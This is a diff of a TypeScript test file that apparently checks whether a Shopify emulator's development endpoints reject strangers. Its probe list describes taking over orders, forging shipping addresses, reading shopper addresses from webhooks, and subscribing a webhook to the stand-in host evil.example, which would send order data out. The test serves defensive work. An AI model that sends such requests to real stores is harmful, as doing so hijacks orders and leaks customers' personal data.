@@ -22,7 +22,12 @@ afterAll(() => fs.rmSync(staticDir, { recursive: true, force: true }));
 /** What a stranger tries, in the order of the attack: find orders, take them over, forge their progress. */
 const probes: Array<{ what: string; method: string; path: string; body?: unknown }> = [
   { what: 'list every draft order with its invoice link', method: 'GET', path: '/shopify-emulator/__emulator/draft-orders' },
-  { what: "complete a victim's shipping form with their own address", method: 'POST', path: '/shopify-emulator/__emulator/draft-orders/1/complete', body: { shippingAddress: { address1: 'Stranger St 1' } } },
+  {
+    what: "complete a victim's shipping form with their own address",
+    method: 'POST',
+    path: '/shopify-emulator/__emulator/draft-orders/1/complete',
+    body: { shippingAddress: { address1: 'Stranger St 1' } },
+  },
   { what: 'mark an order shipped', method: 'POST', path: '/shopify-emulator/__emulator/orders/1/fulfill', body: {} },
   { what: 'read the webhook deliveries (shoppers addresses)', method: 'GET', path: '/shopify-emulator/__emulator/webhooks' },
   { what: 'reset the emulator', method: 'POST', path: '/shopify-emulator/__emulator/reset', body: {} },
@@ -30,11 +35,19 @@ const probes: Array<{ what: string; method: string; path: string; body?: unknown
     what: 'subscribe their own webhook URL with the old constant token',
     method: 'POST',
     path: '/shopify-emulator/admin/api/2026-07/graphql.json',
-    body: { query: 'mutation { webhookSubscriptionCreate(topic: ORDERS_CREATE, webhookSubscription: { uri: "https://evil.example/hook" }) { webhookSubscription { id } } }' },
+    body: {
+      query:
+        'mutation { webhookSubscriptionCreate(topic: ORDERS_CREATE, webhookSubscription: { uri: "https://evil.example/hook" }) { webhookSubscription { id } } }',
+    },
   },
   { what: 'open an invoice page', method: 'GET', path: '/shopify-emulator/548380009/invoices/0123456789abcdef0123456789abcdef' },
   { what: 'fetch a demo product image', method: 'GET', path: '/shopify-emulator/cdn/images/classic-hoodie-1.svg' },
-  { what: 'use the Demo Wallet', method: 'POST', path: '/api/dev/wallet', body: { jsonrpc: '2.0', id: 1, method: 'eth_accounts', params: [] } },
+  {
+    what: 'use the Demo Wallet',
+    method: 'POST',
+    path: '/api/dev/wallet',
+    body: { jsonrpc: '2.0', id: 1, method: 'eth_accounts', params: [] },
+  },
 ];
 
 function probe(h: Harness, p: (typeof probes)[number]) {
